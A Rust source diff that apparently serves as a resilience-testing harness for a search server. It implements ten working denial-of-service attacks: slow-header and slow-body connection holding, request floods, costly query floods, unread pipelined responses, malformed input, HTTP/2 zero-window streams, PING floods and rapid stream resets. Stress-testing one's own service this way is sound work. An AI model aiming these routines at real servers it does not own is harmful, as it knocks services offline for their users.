@@ -1,0 +1,168 @@
+//! Ways in which one client could keep a server from all others.
+
+use std::io::{Read as _, Write as _};
+use std::net::{SocketAddr, TcpStream};
+use std::thread;
+use std::time::{Duration, Instant};
+
+/// What is attacked, and until when.
+#[derive(Clone, Copy)]
+pub(crate) struct Aim<'a> {
+    /// The server.
+    pub(crate) address: SocketAddr,
+    /// When to stop.
+    pub(crate) until: Instant,
+    /// A long text to search for, percent-encoded.
+    pub(crate) text: &'a str,
+}
+
+impl Aim<'_> {
+    fn goes_on(&self) -> bool {
+        Instant::now() < self.until
+    }
+}
+
+/// An attack by its name, with the number of threads that run it.
+pub(crate) type Attack = (&'static str, usize, fn(&Aim<'_>));
+
+/// All attacks.
+pub(crate) const ATTACKS: [Attack; 10] = [
+    ("costly searches", 8, costly),
+    ("heads that never end", 4, |aim| {
+        hold(aim, 60, b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ", b"x");
+    }),
+    ("bodies that never end", 4, |aim| hold(aim, 20, SLOW_BODY, b"q")),
+    ("answers that nobody reads", 4, unread),
+    ("connections that do nothing", 4, |aim| hold(aim, 240, b"", b"")),
+    ("requests without a pause", 8, flood),
+    ("what is no HTTP", 4, malformed),
+    ("streams without a window", 4, windows),
+    ("PING without a pause", 4, |aim| frames(aim, &frame(0x6, 0, 0, &[7; 8]))),
+    ("streams that are reset at once", 4, |aim| frames(aim, &reset())),
+];
+
+const SLOW_BODY: &[u8] = b"POST /api/v1/search HTTP/1.1\r\nHost: localhost\r\n\
+    Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n";
+
+/// How long to wait before the next byte or the next try.
+const PAUSE: Duration = Duration::from_millis(100);
+/// How long to wait for an answer that may never come.
+const PATIENCE: Duration = Duration::from_secs(2);
+
+fn connect(aim: &Aim<'_>) -> Option<TcpStream> {
+    let socket = TcpStream::connect_timeout(&aim.address, PATIENCE).ok()?;
+    socket.set_read_timeout(Some(PATIENCE)).ok()?;
+    socket.set_write_timeout(Some(PATIENCE)).ok()?;
+    Some(socket)
+}
+
+/// Sends one request after the other, each as soon as the one before is answered.
+fn ask_again_and_again(aim: &Aim<'_>, request: &str) {
+    while aim.goes_on() {
+        let Some(mut socket) = connect(aim) else { continue };
+        let mut answer = vec![0; 64 << 10];
+        while aim.goes_on() && socket.write_all(request.as_bytes()).is_ok() {
+            // Whatever has come is enough: the next one is sent when something has.
+            if !matches!(socket.read(&mut answer), Ok(1..)) {
+                break;
+            }
+        }
+    }
+}
+
+fn costly(aim: &Aim<'_>) {
+    let text = aim.text;
+    let target =
+        format!("/api/v1/search?limit=100&facets=source,month&collapse=1&explain=1&q={text}");
+    ask_again_and_again(aim, &format!("GET {target} HTTP/1.1\r\nHost: localhost\r\n\r\n"));
+}
+
+fn flood(aim: &Aim<'_>) {
+    ask_again_and_again(aim, "GET /robots.txt HTTP/1.1\r\nHost: localhost\r\n\r\n");
+}
+
+/// Opens so many connections, begins with the same on each, and goes on with a little now and then.
+fn hold(aim: &Aim<'_>, connections: usize, begin: &[u8], go_on: &[u8]) {
+    let mut held: Vec<TcpStream> = Vec::new();
+    while aim.goes_on() {
+        held.retain_mut(|socket| go_on.is_empty() || socket.write_all(go_on).is_ok());
+        while held.len() < connections && aim.goes_on() {
+            let Some(mut socket) = connect(aim) else { break };
+            if socket.write_all(begin).is_ok() {
+                held.push(socket);
+            }
+        }
+        thread::sleep(PAUSE);
+    }
+}
+
+/// Asks for much at once and reads nothing of it.
+fn unread(aim: &Aim<'_>) {
+    let requests = "GET /souwen.js HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(50);
+    hold(aim, 20, requests.as_bytes(), requests.as_bytes());
+}
+
+fn malformed(aim: &Aim<'_>) {
+    let mut number = 1_u64;
+    while aim.goes_on() {
+        let Some(mut socket) = connect(aim) else { continue };
+        let bytes: Vec<u8> = (0..2_000)
+            .map(|_| {
+                // Steps of a linear congruence (Knuth's MMIX): bytes of all kinds, the same each time.
+                number = number
+                    .wrapping_mul(6_364_136_223_846_793_005)
+                    .wrapping_add(1_442_695_040_888_963_407);
+                (number >> 56) as u8
+            })
+            .collect();
+        drop(socket.write_all(&bytes));
+        drop(socket.read(&mut [0; 1024]));
+    }
+}
+
+/// A frame of HTTP/2 (RFC 9113, 4.1).
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = (payload.len() as u32).to_be_bytes();
+    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
+    [&head, payload].concat()
+}
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+
+/// The head of a stream that asks for a path (RFC 7541: fields of the static table, and literals).
+fn get(stream: u32, path: &str) -> Vec<u8> {
+    let literal = |name: u8, value: &str| [&[name, value.len() as u8], value.as_bytes()].concat();
+    let fields = [&[0x82, 0x86], &literal(0x04, path)[..], &literal(0x01, "localhost")].concat();
+    frame(0x1, 0x5, stream, &fields)
+}
+
+/// Streams that are never allowed to send, on connections that are kept alive.
+fn windows(aim: &Aim<'_>) {
+    let settings = frame(0x4, 0, 0, &[0, 4, 0, 0, 0, 0]);
+    let mut begin = [PREFACE, &settings].concat();
+    (0..32).for_each(|i| begin.extend(get(2 * i + 1, "/souwen.js")));
+    hold(aim, 20, &begin, &frame(0x6, 0, 0, &[7; 8]));
+}
+
+/// Streams that are opened and given up.
+fn reset() -> Vec<u8> {
+    (0..100)
+        .flat_map(|i| [get(2 * i + 1, "/search"), frame(0x3, 0, 2 * i + 1, &[0, 0, 0, 8])].concat())
+        .collect()
+}
+
+/// Sends the same frames without a pause, and reads nothing but what is there.
+fn frames(aim: &Aim<'_>, frames: &[u8]) {
+    while aim.goes_on() {
+        let Some(mut socket) = connect(aim) else { continue };
+        if socket.write_all(&[PREFACE, &frame(0x4, 0, 0, &[])].concat()).is_err() {
+            continue;
+        }
+        drop(socket.set_read_timeout(Some(Duration::from_millis(1))));
+        while aim.goes_on() && socket.write_all(frames).is_ok() {
+            if matches!(socket.read(&mut [0; 4096]), Ok(0)) {
+                break;
+            }
+        }
+    }
+}
